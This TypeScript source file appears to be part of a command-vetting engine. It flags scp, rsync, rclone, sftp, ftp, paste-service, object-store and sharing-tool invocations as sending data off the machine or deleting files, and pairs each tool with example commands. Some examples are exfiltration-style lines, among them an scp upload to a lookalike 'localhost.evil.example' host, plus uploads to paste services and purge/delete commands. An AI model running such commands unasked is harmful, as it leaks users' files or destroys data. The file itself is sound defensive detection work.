/** Copies between machines: to another one is sending, from there is reading. */
import type { ActionDraft, CommandDef, CommandExample, CommandFacts } from '../../engine/definitions.ts';
import { isUnknown } from '../../engine/shell/model.ts';
import { isLocal } from '../addresses.ts';
import { has, onlyHelp, readOptions, shown, wordList, type Options } from '../argv.ts';
import { deletionOf, type Place } from '../deletion.ts';
import { byRules, readExamples } from './rules.ts';

const REMOTE =
  /^(?:[^/:@\s]+@)?(?:[^/:\s]{2,}|[^/:]*\u0000[^/:]*|\[[^\]]+\]):(?!\\)|^(?:rsync|s3|gs|ssh|scp|sftp|ftp):\/\//;

/** True for `host:path`; false for this machine's own name. */
function isRemote(place: string): boolean {
  return REMOTE.test(place) && !isLocal(place.replace(/^([^/]*?):(?!\/\/).*$/s, '$1'));
}

/** Copying to a place: of concern when that is, or may be, another machine. */
function copyTo(last: string): readonly ActionDraft[] {
  if (isRemote(last)) return [{ verb: 'external-send', target: shown(last) }];
  const why = 'where it copies to is only known when it runs';
  return last.startsWith('\u0000') ? [{ verb: 'external-send', target: shown(last), unresolved: why }] : [];
}

const remoteByVariable: readonly CommandExample[] = [
  { argv: ['scp', 'a', '\u0000:/srv'], verbs: ['external-send'] },
  { argv: ['scp', 'a', '\u0000'], verbs: ['external-send'] },
];

const SCP_VALUED = wordList('-i -P -o -F -J -l -c -S -X -D');

export const scp: CommandDef = {
  program: 'scp',
  aliases: ['pscp', 'rcp'],
  gated: [],
  classify: (argv) => {
    const { words } = readOptions(argv.slice(1), SCP_VALUED);
    return onlyHelp(argv) || words.length < 2 ? [] : copyTo(words.at(-1) ?? '');
  },
  examples: [
    ...remoteByVariable,
    ...readExamples(`
      scp notes.md user@host:/tmp => external-send
      scp -P 2222 -i key a.txt host:/srv/ => external-send
      scp -r dist scp://me@host/srv => external-send
      scp a.txt localhost.evil.example: => external-send
      scp host:/var/log/app.log . =>
      scp -r me@host:data ./data =>
      scp a.txt localhost:/tmp/ =>
    `),
  ],
};

const RSYNC_VALUED = wordList(`
  -e --rsh -f --filter --exclude --include --exclude-from --include-from --files-from -B --block-size -T --temp-dir
  --compare-dest --copy-dest --link-dest --backup-dir --suffix --chmod --chown --rsync-path --port --password-file
  --log-file --max-size --min-size --bwlimit --timeout --partial-dir -M --remote-option --out-format --info --debug
`);

function deletes(options: Options): boolean {
  return [...options.names].some((name) => name === 'del' || /^delete(?!d$)/.test(name));
}

/** Into a folder here: what `--delete` takes there, what `--remove-source-files` takes from its place. */
function rsyncHere(options: Options, place: Place): readonly ActionDraft[] {
  const gone = [
    ...(deletes(options) ? options.words.slice(-1) : []),
    ...(has(options, 'remove-source-files')
      ? options.words.slice(0, -1).filter((path) => !isRemote(path))
      : []),
  ];
  return deletionOf(gone, place);
}

export const rsync: CommandDef = {
  program: 'rsync',
  gated: [],
  classify: (argv, place) => {
    const options = readOptions(argv.slice(1), RSYNC_VALUED);
    const idle = onlyHelp(argv) || has(options, 'n', 'dry-run', 'list-only') || options.words.length < 2;
    if (idle) return [];
    const sent = copyTo(options.words.at(-1) ?? '');
    return sent.length > 0 ? sent : rsyncHere(options, place);
  },
  examples: readExamples(`
    rsync -av src/ host:/srv/ => external-send
    rsync -az -e ssh dist/ me@host:/var/www/ => external-send
    rsync -a --delete dist/ host::module => external-send
    rsync -a src/ rsync://host/module => external-send
    rsync -a --delete empty/ src/ => delete-files
    rsync -a --delete-after host:/srv/ ./data => delete-files
    rsync -a --remove-source-files src/ /mnt/backup/ => delete-files
    rsync -av src/ /tmp/backup/ =>
    rsync -av --delete src/ dist/ =>
    rsync -avn --delete src/ host:/srv/ =>
    rsync -a host:/var/log/ logs/ =>
    rsync --version =>
  `),
};

const RCLONE_VALUED = wordList(
  '--config --include --exclude --filter --transfers --max-age --min-age --bwlimit --log-file',
);
const RCLONE_SENDS = new Set(wordList('rcat serve link settier touch mkdir'));
const RCLONE_DELETES = new Set(wordList('delete deletefile purge rmdir rmdirs cleanup dedupe'));

function rcloneClassify(argv: readonly string[]): readonly ActionDraft[] {
  const options = readOptions(argv.slice(1), RCLONE_VALUED);
  const [verb = '', from, to] = options.words;
  if (onlyHelp(argv) || has(options, 'n', 'dry-run')) return [];
  const moves = /^(?:sync|bisync|move)/.test(verb);
  const sent = moves || verb.startsWith('copy') ? copyTo(to ?? '') : [];
  return sent.length > 0 ? sent : storing(moves ? 'delete' : verb, `${verb} ${shown(from ?? '')}`);
}

function storing(verb: string, target: string): readonly ActionDraft[] {
  if (RCLONE_DELETES.has(verb)) return [{ verb: 'delete-files', target }];
  return RCLONE_SENDS.has(verb) ? [{ verb: 'external-send', target }] : [];
}

export const rclone: CommandDef = {
  program: 'rclone',
  gated: [],
  classify: rcloneClassify,
  examples: readExamples(`
    rclone copy data remote:bucket => external-send
    rclone sync dist remote:site => external-send
    rclone rcat remote:x.txt => external-send
    rclone link remote:x => external-send
    rclone purge remote:bucket => delete-files
    rclone sync remote:bucket data => delete-files
    rclone copy remote:bucket data =>
    rclone ls remote: =>
    rclone sync -n dist remote:site =>
    rclone about remote: =>
  `),
};

const PUTS =
  /(?:^|[;\s"'])(?:m?put|reput|mirror\s+(?:-\w*R|--reverse)|send|mrm|rm|delete|mdelete|rmdir|rename|chmod|append)\b/;

const SFTP_VALUED = wordList('-b -B -c -D -F -i -J -l -o -P -R -S -s');

/** Commands that come in on the standard input, where they are known. */
function fed({ input }: CommandFacts): string | undefined {
  return input?.kind === 'text' ? input.text : undefined;
}

/** What it does stands in its commands; without any they come from where nobody sees them. */
function batch(
  argv: readonly string[],
  valued: readonly string[],
  text: string | undefined,
): readonly ActionDraft[] {
  const { words } = readOptions(argv.slice(1), valued);
  const [host] = words;
  if (onlyHelp(argv) || isLocal(host ?? 'example')) return [];
  const told = text ?? host;
  const harmless = text !== undefined && !isUnknown(text) && !PUTS.test(text);
  return told === undefined || harmless ? [] : [{ verb: 'external-send', target: shown(host ?? told) }];
}

export const lftp: CommandDef = {
  program: 'lftp',
  gated: [],
  classify: (argv, facts) => {
    const valued = ['-e', '-c', '-f', '-u', '-p'];
    const options = readOptions(argv.slice(1), valued);
    return batch(argv, valued, options.values.get('c') ?? options.values.get('e') ?? fed(facts));
  },
  examples: readExamples(`
    lftp -e put␣a.txt;bye ftp.example => external-send
    lftp -c open␣h;mirror␣-R␣dist => external-send
    lftp ftp.example => external-send
    lftp -e get␣a.txt;bye ftp.example =>
    lftp -c open␣h;mirror␣data =>
    lftp --help =>
  `),
};

/** `sftp host:file` fetches; everything else reads its commands from its input. */
export const sftp: CommandDef = {
  program: 'sftp',
  aliases: ['psftp'],
  gated: [],
  classify: (argv, facts) => {
    const { words, values } = readOptions(argv.slice(1), SFTP_VALUED);
    const file = values.get('b');
    const fetches = /^[^:]+:.+|^sftp:\/\/[^/]+\/./.test(words[0] ?? '') && file === undefined;
    return fetches
      ? []
      : batch(argv, SFTP_VALUED, file === undefined || file === '-' ? fed(facts) : undefined);
  },
  examples: readExamples(`
    sftp me@host => external-send
    sftp -b batch.txt host => external-send
    sftp -P 2222 host => external-send
    sftp host:/srv/a.txt ./a.txt =>
    sftp localhost =>
    sftp --help =>
  `),
};

export const ftp: CommandDef = {
  program: 'ftp',
  aliases: ['tftp', 'ncftpput', 'ncftp', 'ftp-upload', 'tnftp'],
  gated: [],
  classify: (argv, facts) => {
    const downloads = argv[0] === 'ftp' && argv.includes('-o');
    const valued = /^t?n?ftp$/.test(argv[0] ?? '') ? '-P -q -r -s -T -u -N -o' : '-p -u -P -d -o -n';
    return downloads ? [] : batch(argv, wordList(valued), fed(facts));
  },
  examples: readExamples(`
    ftp ftp.example => external-send
    ftp -n ftp.example => external-send
    tftp host -c put a.txt => external-send
    ncftpput -u me host /srv a.txt => external-send
    ftp localhost =>
    ftp -o a.txt https://example.com/a.txt =>
    tftp --help =>
  `),
};

/** Tools that hand one file to somebody. */
export const share: CommandDef = byRules({
  program: 'croc',
  aliases: [
    'wormhole',
    'magic-wormhole',
    'ffsend',
    'kdeconnect-cli',
    'transfer',
    'transferwee',
    'dbxcli',
    'gdrive',
    'dropbox_uploader.sh',
    'portal',
    'qrcp',
    'bluetooth-sendto',
  ],
  rules: [
    {
      words: 'receive|recv|rx|download|list|ls|info|get|account|version|search|du|revs|help|history|exists',
      verb: 'none',
    },
    { words: 'files list|info|download|export', verb: 'none' },
    { words: '', verb: 'none', when: ['l', 'list-devices', 'a', 'list-available'] },
    { words: '*', verb: 'external-send' },
    { words: '', verb: 'external-send', when: ['share', 'share-text'] },
  ],
  examples: `
    croc send notes.md => external-send
    wormhole send a.txt => external-send
    ffsend upload a.txt => external-send
    gdrive files upload a.txt => external-send
    dbxcli put a.txt /a.txt => external-send
    kdeconnect-cli --share a.txt -n phone => external-send
    transfer a.txt => external-send
    wormhole receive 7-a-b =>
    gdrive files list =>
    dbxcli ls =>
    croc --help =>
    kdeconnect-cli -l =>
  `,
});

/** Paste services take their text from a file or from their input. */
export const paste: CommandDef = {
  program: 'pastebinit',
  aliases: [
    'gist',
    'gist-paste',
    'ix',
    'sprunge',
    'termbin',
    'wgetpaste',
    'dpaste',
    'hastebin',
    'haste',
    'carbon-now',
    '0x0',
    'pb',
    'fpaste',
  ],
  gated: [],
  classify: (argv) => {
    const reads = argv.some((word) => /^(?:-l|--list|-r|--read|--help|-h|-v|--version|-L|-S)$/.test(word));
    return reads ? [] : [{ verb: 'external-send', target: `a paste (${argv.map(shown).join(' ')})` }];
  },
  examples: readExamples(`
    pastebinit notes.md => external-send
    gist -p a.ts => external-send
    ix => external-send
    wgetpaste log.txt => external-send
    gist -l =>
    pastebinit --help =>
    wgetpaste --version =>
  `),
};

const COPIES = 'cp|copy|mv|move|sync|mirror|put|upload|pipe';

/** Object stores: `put` and the like send, `rm` deletes, the rest reads. */
export const objectStores: CommandDef = byRules({
  program: 's3cmd',
  aliases: ['s5cmd', 's4cmd', 'mcli', 'b2', 'azcopy', 'ossutil', 'coscmd'],
  valued: wordList('-c --config --profile --endpoint-url --exclude --include --region'),
  rules: [
    { words: 'file upload|copy-by-id', verb: 'external-send' },
    { words: 'file hide|delete', verb: 'delete-files' },
    {
      words: `${COPIES}|upload-file|upload_file|setacl|share|signurl`,
      verb: 'external-send',
      unless: ['dry-run', 'n'],
      text: /(?:[a-z0-9]+:\/\/|\s)[^\s]*$/,
    },
    {
      words: 'rm|del|rb|remove|delete|expire|delete-bucket|delete-file-version',
      verb: 'delete-files',
      unless: ['dry-run', 'n'],
    },
  ],
  examples: `
    s3cmd put a.txt s3://bucket/ => external-send
    s3cmd sync dist/ s3://bucket/ => external-send
    s5cmd cp a.txt s3://bucket/ => external-send
    b2 file upload bucket a.txt a.txt => external-send
    azcopy copy dist https://x.blob.core.windows.net/c => external-send
    s3cmd del s3://bucket/a.txt => delete-files
    azcopy remove https://x.blob.core.windows.net/c => delete-files
    s3cmd rb s3://bucket => delete-files
    s3cmd ls s3://bucket =>
    s3cmd get s3://bucket/a.txt =>
    s5cmd --help =>
    azcopy list https://x.blob.core.windows.net/c =>
    b2 ls bucket =>
  `,
});

/** Keeps two folders alike, both ways; a profile may name any two. */
export const unison: CommandDef = byRules({
  program: 'unison',
  aliases: ['unison-text', 'unison-gtk'],
  rules: `
    +version|doc =>
    /(?:^|\\s)(?:(?:-root[=\\s])?(?:ssh|rsh|socket):\\/\\/)/ => external-send
    * * => delete-files
    * => external-send
  `,
  goFlags: true,
  examples: `
    unison docs ssh://host//home/docs => external-send
    unison -batch ssh://host/docs docs => external-send
    unison -batch a b => delete-files
    unison work => external-send
    unison -version =>
  `,
});

/** Copies to many hosts at once. */
export const manyCopies: CommandDef = byRules({
  program: 'parallel-scp',
  aliases: ['parallel-rsync', 'prsync', 'pdcp', 'dcp'],
  valued: '-h --hosts -H --host -l --user -p --par -o --outdir -e --errdir -t -O -x -X -w -g',
  rules: `
    * * => external-send
  `,
  examples: `
    parallel-scp -h hosts app.tar /tmp => external-send
    prsync -h hosts -r dist /srv => external-send
    pdcp -w web[1-4] a.tar /tmp => external-send
    pdcp --help =>
  `,
});

/** MinIO's client, and a file manager of the same name. */
export const mc: CommandDef = byRules({
  program: 'mc',
  rules: [
    { words: 'cp|mv|mirror|put|pipe|share|anonymous', verb: 'external-send', unless: ['dry-run', 'fake'] },
    { words: 'rm|rb|undo', verb: 'delete-files', unless: ['dry-run', 'fake'] },
    {
      words: 'admin',
      verb: 'prod-change',
      text: /\b(?:add|remove|set|disable|enable|restart|stop|update|import|create|attach|detach)\b/,
    },
  ],
  examples: `
    mc cp a.txt store/bucket => external-send
    mc mirror dist store/bucket => external-send
    mc rm --recursive store/bucket => delete-files
    mc rb --force store/bucket => delete-files
    mc admin user remove store bob => prod-change
    mc ls store/bucket =>
    mc stat store/bucket/a =>
    mc admin info store =>
    mc --help =>
  `,
});

/** Others that put files where many can read them, one word each. */
export const putters: CommandDef = byRules({
  program: 'ipfs',
  aliases: ['skicka', 'ia', 'kaggle', 'huggingface-cli', 'hf', 'modelscope', 'wandb'],
  rules: [
    {
      words: 'add|pin|upload|put|push|delete|metadata|artifact',
      verb: 'external-send',
      unless: ['dry-run', 'only-hash', 'n'],
    },
    {
      words: 'datasets|kernels|models|competitions create|version|push|submit|update|delete',
      verb: 'external-send',
    },
    { words: 'repo create|delete', verb: 'external-send' },
    { words: 'sync', verb: 'external-send' },
  ],
  examples: `
    ipfs add notes.md => external-send
    ia upload item a.txt => external-send
    huggingface-cli upload me/model . => external-send
    hf upload me/model model.bin => external-send
    kaggle datasets create -p data => external-send
    ipfs cat Qm1 =>
    ipfs add --only-hash notes.md =>
    huggingface-cli download me/model =>
    kaggle datasets list =>
    wandb login =>
  `,
});
